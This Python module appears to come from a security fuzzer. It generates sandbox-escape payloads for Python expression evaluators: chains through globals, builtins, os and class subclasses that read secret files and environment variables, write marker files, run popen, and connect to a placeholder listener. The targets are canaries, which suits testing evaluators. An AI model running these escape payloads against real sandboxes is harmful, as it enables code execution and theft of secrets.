"""What sources are built from: where a walk starts, how it goes on, and what proves that it ended."""

from collections.abc import Iterator

from capfuzz.attacks.evaluators import LISTENER, MARKER, PORT, RESULT, SECRET_FILE, SECRET_NAME
from capfuzz.attacks.techniques.registry import Kind, techniques_for

evaluated = techniques_for(Kind.EVAL, "eval")

READ = f"('{SECRET_FILE}').read()"  # behind whatever is `open`
WRITE = f"('{MARKER}', 'w').write('x')"
CANARY = f"['{SECRET_NAME}']"  # behind the globals of a module of the host
ENVIRON = f".environ['{SECRET_NAME}']"  # behind the module os
CONNECT = f"create_connection(('{LISTENER}', {PORT}), 1)"
FIELD = f"[{SECRET_NAME}]"  # the same as CANARY within a format string

# What an evaluator may wrap in a function of its own, the likeliest first.
FUNCTIONS = (
    *("(lambda: 0)", "print", "open", "getattr", "setattr", "delattr", "hasattr", "range"),
    *("type", "dir", "len", "str", "int", "float", "sum", "min", "max", "abs", "sorted", "pow"),
    *("list", "rand", "randint", "sqrt", "_getattr_", "_getiter_", "_getitem_", "_write_"),
)
BUILTINS = ("print", "len", "abs", "min", "max", "sum", "round", "sorted", "pow", "repr", "ord")
VALUES = ("()", "''", "(0)", "[]", "{}", "1.5", "True", "None", "(lambda: 0)", "print")


def statements(*lines: str) -> str:
    """Return lines as statements that end in the result."""
    return "\n".join((*lines, RESULT))


def valued(expression: str, *before: str) -> str:
    """Return statements whose value is an expression's."""
    return statements(*before, f"{RESULT} = {expression}")


def of_globals(names: str) -> Iterator[str]:
    """Yield what proves that an expression is the globals of a module of the host."""
    yield f"{names}{CANARY}"
    yield f"{names}['__builtins__']['open']{READ}"
    yield f"{names}['__builtins__']['__import__']('os'){ENVIRON}"
    yield f"{names}['__builtins__']['open']{WRITE}"


def of_builtins(module: str) -> Iterator[str]:
    """Yield what proves that an expression is the module of builtins."""
    yield f"{module}.open{READ}"
    yield f"{module}.__import__('os'){ENVIRON}"
    yield f"{module}.open{WRITE}"


def of_os(module: str) -> Iterator[str]:
    """Yield what proves that an expression is the module os."""
    yield f"{module}{ENVIRON}"
    yield f"{module}.popen('cat {SECRET_FILE}').read()"
    yield f"{module}.open('{MARKER}', 65, 384)"


def of_subclasses(classes: str) -> Iterator[str]:
    """Yield what proves that an expression is the list of all classes of the host."""
    yield f"[c for c in {classes} if c.__name__ == 'FileLoader'][0].get_data(0, '{SECRET_FILE}')"
    yield f"[c for c in {classes} if c.__name__ == '_wrap_close'][0].__init__.__globals__{CANARY}"
    yield f"{{c.__name__: c for c in {classes}}}['FileLoader'].get_data(0, '{SECRET_FILE}')"
    sys = f"[c for c in {classes} if c.__name__ == 'BuiltinImporter'][0].load_module('sys')"
    yield f"{sys}.modules['os']{ENVIRON}"
